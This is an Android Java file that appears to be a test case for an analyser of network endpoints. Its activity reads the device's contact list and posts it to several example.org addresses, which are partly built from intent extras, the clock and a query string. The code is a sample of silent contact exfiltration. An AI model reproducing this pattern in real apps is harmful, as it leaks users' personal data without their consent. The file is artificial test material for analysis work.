// Addresses with a piece that only the intent knows, in the path and in the query;
// a string is asked for itself on the way.
package cases.endpoint_unknown;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import org.json.JSONException;
import org.json.JSONObject;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        StringBuilder text = new StringBuilder();
        Cursor rows = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (rows.moveToNext()) {
            text.append(rows.getString(1));
        }
        rows.close();
        try {
            send(text.toString().getBytes());
            keep(text.toString().getBytes());
            spread(text.toString().getBytes());
            build(text.toString());
        } catch (IOException e) {
            Log.w("main", "later");
        }
    }

    private void send(byte[] body) throws IOException {
        String branch = getIntent().getStringExtra("branch").toString().intern();
        URL address = new URL("https://api.example.org/" + branch + "/contacts");
        HttpURLConnection connection = (HttpURLConnection) address.openConnection();
        connection.setDoOutput(true);
        OutputStream out = connection.getOutputStream();
        out.write(body);
        out.close();
        connection.getInputStream().close();
    }

    private void spread(byte[] body) throws IOException {
        URL address = new URL("https://shard" + System.currentTimeMillis() % 4 + ".example.org/v1/contacts");
        HttpURLConnection connection = (HttpURLConnection) address.openConnection();
        connection.setDoOutput(true);
        OutputStream out = connection.getOutputStream();
        out.write(body);
        out.close();
        connection.getInputStream().close();
    }

    private void build(String text) throws IOException {
        URL address = new URL("https://api.example.org:" + System.currentTimeMillis() % 9000 + "/v2");
        HttpURLConnection connection = (HttpURLConnection) address.openConnection();
        connection.setDoOutput(true);
        OutputStream out = connection.getOutputStream();
        try {
            out.write(new JSONObject().put("of_" + getIntent().getStringExtra("user"), text).toString().getBytes());
        } catch (JSONException e) {
            Log.w("main", "later");
        }
        out.close();
        connection.getInputStream().close();
    }

    private void keep(byte[] body) throws IOException {
        URL address = new URL("https://files.example.org/v1/backup?" + getIntent().getStringExtra("query"));
        HttpURLConnection connection = (HttpURLConnection) address.openConnection();
        connection.setDoOutput(true);
        OutputStream out = connection.getOutputStream();
        out.write(body);
        out.close();
        connection.getInputStream().close();
    }
}
